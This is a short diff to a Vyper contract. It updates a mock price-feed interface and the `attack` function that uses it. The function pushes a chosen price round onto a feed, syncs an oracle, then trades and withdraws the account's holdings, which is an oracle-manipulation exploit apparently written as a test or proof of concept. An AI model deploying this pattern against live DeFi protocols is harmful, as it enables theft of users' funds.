@@ -26,8 +26,9 @@ interface IOracleRouter:
 
 
 interface IMockAggregator:
-    def update_answer(answer: int256): nonpayable
-    def update_round(answer: int256, updated_at: uint256): nonpayable
+    def updateAnswer(answer: int256): nonpayable
+    def updateRoundData(round_id: uint80, answer: int256, timestamp: uint256, started_at: uint256): nonpayable
+    def latest_round() -> uint80: view
 
 
 interface IThinSpotPool:
@@ -95,9 +96,10 @@ def attack(plan: Plan):
     # 2. the oracle move: a round on a feed this contract controls, folded in by sync
     if plan.feed.address != empty(address):
         if plan.feed_updated_at == 0:
-            extcall plan.feed.update_answer(plan.feed_answer)
+            extcall plan.feed.updateAnswer(plan.feed_answer)
         else:
-            extcall plan.feed.update_round(plan.feed_answer, plan.feed_updated_at)
+            next_round: uint80 = staticcall plan.feed.latest_round() + 1
+            extcall plan.feed.updateRoundData(next_round, plan.feed_answer, plan.feed_updated_at, plan.feed_updated_at)
     if plan.sync:
         extcall ORACLE.sync(plan.asset)
     # 3. the trade: deposit, open, close, withdraw everything the account holds
